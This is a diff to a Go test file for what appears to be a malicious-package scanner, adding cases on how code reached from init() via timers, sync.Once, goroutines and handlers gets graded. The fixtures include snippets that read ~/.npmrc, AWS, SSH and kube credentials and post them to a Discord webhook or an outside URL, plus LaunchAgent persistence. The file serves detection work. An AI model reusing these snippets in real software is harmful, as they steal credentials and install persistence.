@@ -103,6 +103,29 @@ func TestGoImportTime(t *testing.T) {
 			out: []string{"OUT1"},
 		},
 		{
+			name: "init starts function values",
+			files: map[string]string{
+				"x/a.go": "package x\n\nimport (\n\t\"sync\"\n\t\"time\"\n)\n\nvar once sync.Once\n\nvar timer = time.AfterFunc(time.Hour, expire)\n\n" +
+					"func init() {\n\ttime.AfterFunc(0, payload)\n\tonce.Do(d.run)\n\tgo start(stage)\n\tdefer cleanup()\n\tlater(\n\t\tfunc() { IN6() },\n\t)\n}\n",
+				"x/b.go": "package x\n\nfunc payload() { IN1() }\n\nfunc (d *daemon) run() { IN2() }\n\nfunc start(f func()) { f() }\n\nfunc stage() { IN3() }\n\n" +
+					"func cleanup() { IN4() }\n\nfunc later(f func()) { go f() }\n\nfunc expire() { IN5() }\n\nfunc unused() { OUT1() }\n",
+			},
+			in:  []string{"IN1", "IN2", "IN3", "IN4", "IN5", "IN6"},
+			out: []string{"OUT1"},
+		},
+		{
+			name: "init stores function values",
+			files: map[string]string{
+				"x/x.go": "package x\n\nimport \"time\"\n\nfunc init() {\n\thandlers[\"x\"] = handle\n\tcheck(handle != nil)\n" +
+					"\tRegister(&Backend{New: newBackend, Open: func() { OUT2(); once.Do(open) }}, time.Second)\n" +
+					"\tf := handle2\n\t_ = f\n\tcb := func(done, fail func()) { OUT3() }\n\t_ = cb\n\tRegister(nil, time.Minute)\n}\n\n" +
+					"func handle() { OUT1() }\n\nfunc newBackend() { OUT4() }\n\nfunc handle2() { OUT5() }\n\nfunc Register(b *Backend, d time.Duration) { IN1() }\n\n" +
+					"func Minute() { OUT6() }\n\nfunc open() { OUT7() }\n\nfunc done() { OUT8() }\n",
+			},
+			in:  []string{"IN1"},
+			out: []string{"OUT1", "OUT2", "OUT3", "OUT4", "OUT5", "OUT6", "OUT7", "OUT8"},
+		},
+		{
 			name: "init in strings and comments",
 			files: map[string]string{
 				"x/x.go": "package x\n\n// func init() { OUT1() }\nconst s = `\nfunc init() { OUT2() }\n`\n\nfunc f() {}\n",
@@ -217,6 +240,8 @@ func TestGoGrading(t *testing.T) {
 		{"reverse shell started by init", goTreeOf(map[string]string{"x/x.go": shell + "\nfunc init() { go Shell() }\n"}), "reverse-shell", record.High, 0},
 		{"two behaviours in ordinary code", goTreeOf(map[string]string{"x/x.go": "package x\n\nimport \"net/http\"\n\nfunc Send(b []byte) {\n\tos.ReadFile(home + \"/.npmrc\")\n\thttp.Post(\"https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz\", \"\", nil)\n}\n"}), "credential-read", record.Critical, 0},
 		{"same stealer in an npm package (ordinary code)", treeOf(map[string]string{"lib/creds.js": "const paths = ['.aws/credentials', '.docker/config.json', '.kube/config', '.ssh/id_rsa'];\nhttps.request(u).end(paths.map(read).join());\n"}), "credential-read", record.High, 0},
+		{"init arms a timer that runs a stealer", goTreeOf(map[string]string{"x/a.go": "package x\n\nimport \"time\"\n\nfunc init() { time.AfterFunc(time.Second, collect) }\n", "x/b.go": stealer}), "credential-read", record.High, 0},
+		{"init runs a stealer once through sync.Once", goTreeOf(map[string]string{"x/a.go": "package x\n\nimport \"sync\"\n\nvar once sync.Once\n\nfunc init() { once.Do(collect) }\n", "x/b.go": stealer}), "credential-read", record.High, 0},
 		{"npm package with a postinstall download", treeOf(map[string]string{"package.json": postinstall}), "install-script", record.High, 0},
 
 		// Honest: what runs only when called warns at most.
@@ -232,6 +257,7 @@ func TestGoGrading(t *testing.T) {
 		{"init writes a LaunchAgent", goTreeOf(map[string]string{
 			"service.go":        "package service\n\nfunc init() { persist() }\n",
 			"service_darwin.go": "package service\n\nimport \"os\"\n\nfunc persist() {\n\tos.WriteFile(home+\"/Library/LaunchAgents/com.apple.updater.plist\", conf, 0o644)\n}\n"}), "autostart-persistence", record.High, 0},
+		{"init stores the same stealer as a command handler", goTreeOf(map[string]string{"x/a.go": "package x\n\nvar commands = map[string]func(){}\n\nfunc init() {\n\tcommands[\"sync\"] = collect\n\tRegister(&Command{Name: \"sync\", Run: collect})\n}\n", "x/b.go": stealer}), "credential-read", record.Info, record.Medium},
 		{"credential doctor in ordinary code", goTreeOf(map[string]string{"creds/creds.go": fourKinds}), "credential-read", record.Medium, record.Medium},
 		{"reverse shell string in ordinary code (a detection rule table)", goTreeOf(map[string]string{"x/x.go": shell}), "reverse-shell", record.Info, record.Medium},
 		{"Go module with a package.json postinstall", goTreeOf(map[string]string{"go.mod": "module example.com/m\n", "package.json": postinstall}), "install-script", quiet, 0},
